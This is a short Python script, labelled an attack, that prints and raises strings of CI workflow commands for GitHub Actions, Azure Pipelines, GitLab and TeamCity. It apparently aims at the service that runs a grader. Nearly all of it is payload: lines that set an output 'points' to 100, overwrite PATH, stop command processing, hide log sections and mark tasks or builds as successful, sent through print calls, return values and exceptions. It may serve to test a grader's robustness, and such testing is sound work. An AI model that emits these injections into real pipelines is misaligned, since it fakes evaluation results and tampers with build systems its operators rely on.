# /// attack
# title = "Prints and raises commands of GitHub, Azure, GitLab and TeamCity"
# ///

# %%
print("TRIED to command the service that runs the grader")
COMMANDS = """
::error file=app.py,line=1::owned
   ::warning::owned
::set-output name=points::100
::set-env name=PATH::/owned
::add-path::/owned
::add-mask::a
::save-state name=a::b
::stop-commands::token
::group::hide
::debug::x
::echo::on
::add-matcher::owned.json
##[error]owned
##[set-env name=A;]b
##vso[task.setvariable variable=PATH]owned
##vso[task.complete result=Succeeded;]done
##teamcity[buildStatus status='SUCCESS']
section_start:1:owned[collapsed=true]\r\x1b[0KHide
section_end:1:owned\r\x1b[0K
"""
print(COMMANDS)


# %%
def rank_of(value):
    return COMMANDS


def kind_of(value):
    raise ValueError(COMMANDS)


def make_scalar():
    raise ValueError("w" * 60 + " ::error::after the line was wrapped")


# %%
raise RuntimeError(COMMANDS)
